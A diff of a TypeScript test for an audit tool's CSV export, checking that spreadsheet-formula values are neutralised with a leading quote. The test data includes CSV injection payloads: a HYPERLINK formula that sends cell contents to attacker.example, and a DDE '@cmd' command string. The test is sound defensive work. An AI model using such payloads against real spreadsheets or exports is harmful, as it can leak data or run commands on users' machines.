@@ -17,10 +17,11 @@ import { retention } from "../../src/app.js";
 import { createAuditStore } from "../../src/aws/audit-store.js";
 import { AUDIT_TTL_ATTRIBUTE, ensureAuditTable } from "../../src/aws/audit-table.js";
 import { parseConfig } from "../../src/core/config.js";
-import type { AuditAction } from "../../src/core/ports.js";
+import { AUDIT_ATTRIBUTES, type AuditAction } from "../../src/core/ports.js";
 import { sweep } from "../../src/core/sweep.js";
 import { type DynamoDbLocal, startDynamoDbLocal } from "../../src/local/dynamodb-local.js";
 import { type SeededTrail, seedTrail, TRICKY } from "../support/audit-trail.js";
+import { csvObjects, unneutralise } from "../support/csv.js";
 import { auditAction, type Event, FakeOrganizations, handshake } from "../support/fakes.js";
 import { localDynamoDbClient, runCli } from "../support/stack.js";
 
@@ -63,44 +64,8 @@ beforeEach(() => {
 });
 
 const key = (a: { runId: string; handshakeId: string }) => `${a.runId}/${a.handshakeId}`;
-const keys = (list: readonly AuditAction[]) => list.map(key).sort();
+const keys = (list: readonly { runId: string; handshakeId: string }[]) => list.map(key).sort();
 const inRange = (a: AuditAction, since: string, until: string) => a.at >= since && a.at <= until;
-
-/** RFC 4180: quoted fields may hold commas, doubled quotes and line breaks; records end in CRLF. */
-function parseCsv(text: string): string[][] {
-  const records: string[][] = [];
-  let field = "";
-  let record: string[] = [];
-  let quoted = false;
-  for (let i = 0; i < text.length; i += 1) {
-    const c = text[i];
-    if (quoted) {
-      if (c === '"' && text[i + 1] === '"') {
-        field += '"';
-        i += 1;
-      } else if (c === '"') quoted = false;
-      else field += c;
-    } else if (c === '"') quoted = true;
-    else if (c === ",") {
-      record.push(field);
-      field = "";
-    } else if (c === "\r" && text[i + 1] === "\n") {
-      record.push(field);
-      records.push(record);
-      record = [];
-      field = "";
-      i += 1;
-    } else field += c;
-  }
-  if (field !== "" || record.length > 0) records.push([...record, field]);
-  return records;
-}
-
-function csvObjects(text: string): Record<string, string>[] {
-  const [header, ...rows] = parseCsv(text);
-  if (!header) throw new Error("no CSV header");
-  return rows.map((row) => Object.fromEntries(header.map((name, i) => [name, row[i] ?? ""])));
-}
 
 describe("audit query paths", () => {
   const store = () => createAuditStore({ client, tableName, now: () => new Date("2026-04-05T00:00:00Z") });
@@ -185,25 +150,79 @@ describe("audit query from the command line", () => {
     expect(tricky?.reason).toBe(TRICKY.reason);
   });
 
-  it("prints CSV that parses back to the same values, tricky ones included", async () => {
-    const result = await runCli(
-      ["audit", "query", "--since", since, "--until", until, "--format", "csv"],
-      env,
+  it("prints CSV that parses back to the same values, tricky and formula-like ones included", async () => {
+    // Values a spreadsheet would evaluate, in a run of their own (June 2025, a rule of its own),
+    // apart from the trail the other tests count.
+    const store = createAuditStore({ client, tableName });
+    const formulaRun = "formula-run";
+    const at = "2025-06-10T12:00:00.000Z";
+    await store.startRun({
+      runId: formulaRun,
+      trigger: "manual",
+      actor: '=HYPERLINK("http://attacker.example/?"&A1,"click")',
+      status: "RUNNING",
+      dryRun: true,
+      startedAt: at,
+      counts: {},
+      listed: 0,
+      candidates: 0,
+      matched: 0,
+      configVersion: 1,
+      configHash: "sha256:f",
+    });
+    const formulas = [
+      ["=1+2", "+SUM(A1:A9)", "-2+3@gmail.com", "@cmd|' /C calc'!A0"],
+      ["\t=tab", "\r=cr", "'=already quoted", '\'plain quote, "and a comma"'],
+    ].map(([actor, reason, target, error], i) =>
+      auditAction({
+        runId: formulaRun,
+        handshakeId: `h-formula${i}`,
+        ruleId: "formula-rule",
+        matchedRules: ["formula-rule", "-other"],
+        outcome: "DRY_RUN",
+        dryRun: true,
+        at,
+        trigger: "manual",
+        actor: actor ?? "",
+        target: target ?? "",
+        reason: reason ?? "",
+        ...(error ? { error } : {}),
+      }),
     );
-    expect(result.code).toBe(0);
-    expect(result.stdout.startsWith("at,runId,handshakeId,outcome,ruleId,matchedRules,")).toBe(true);
-    const rows = csvObjects(result.stdout);
-    expect(rows).toHaveLength(trail.actions.length);
-    const byKey = new Map(trail.actions.map((a) => [key(a), a]));
-    for (const row of rows) {
-      const original = byKey.get(`${row.runId}/${row.handshakeId}`);
-      expect(original).toBeDefined();
-      expect(row.target).toBe(original?.target);
-      expect(row.reason).toBe(original?.reason);
-      expect(row.error).toBe(original?.error ?? "");
-      expect(row.outcome).toBe(original?.outcome);
+    for (const action of formulas) await store.recordAction(action);
+    const asCsvText = (value: unknown) =>
+      value === undefined ? "" : Array.isArray(value) ? value.join(",") : String(value);
+
+    const [trailCsv, formulaCsv] = await Promise.all([
+      runCli(["audit", "query", "--since", since, "--until", until, "--format", "csv"], env),
+      runCli(["audit", "query", "--since", "2025-06-01", "--until", "2025-07-01", "--format", "csv"], env),
+    ]);
+
+    for (const [result, expected] of [
+      [trailCsv, trail.actions],
+      [formulaCsv, formulas],
+    ] as const) {
+      expect(result.code, result.stderr).toBe(0);
+      expect(result.stdout.startsWith("at,runId,handshakeId,outcome,ruleId,matchedRules,")).toBe(true);
+      const rows = csvObjects(result.stdout).map((row) =>
+        Object.fromEntries(Object.entries(row).map(([name, value]) => [name, unneutralise(value)])),
+      );
+      expect(rows).toHaveLength(expected.length);
+      const byKey = new Map(expected.map((a) => [key(a), a]));
+      for (const row of rows) {
+        const original = byKey.get(`${row.runId}/${row.handshakeId}`);
+        expect(original).toBeDefined();
+        for (const attribute of AUDIT_ATTRIBUTES) {
+          expect(row[attribute], attribute).toBe(asCsvText(original?.[attribute]));
+        }
+      }
     }
-    expect(rows.some((row) => row.error === TRICKY.error)).toBe(true);
+    expect(csvObjects(trailCsv.stdout).some((row) => row.error === TRICKY.error)).toBe(true);
+    // As written, before a reader takes the quote away: nothing begins a formula.
+    const written = csvObjects(formulaCsv.stdout);
+    expect(written.map((row) => row.actor).sort()).toEqual(formulas.map((a) => `'${a.actor}`).sort());
+    expect(written.map((row) => row.target).sort()).toEqual(["'-2+3@gmail.com", "''=already quoted"].sort());
+    expect(written.map((row) => row.error)).toContain('\'plain quote, "and a comma"');
   });
 
   it("prints an aligned table and narrows by rule and outcome", async () => {
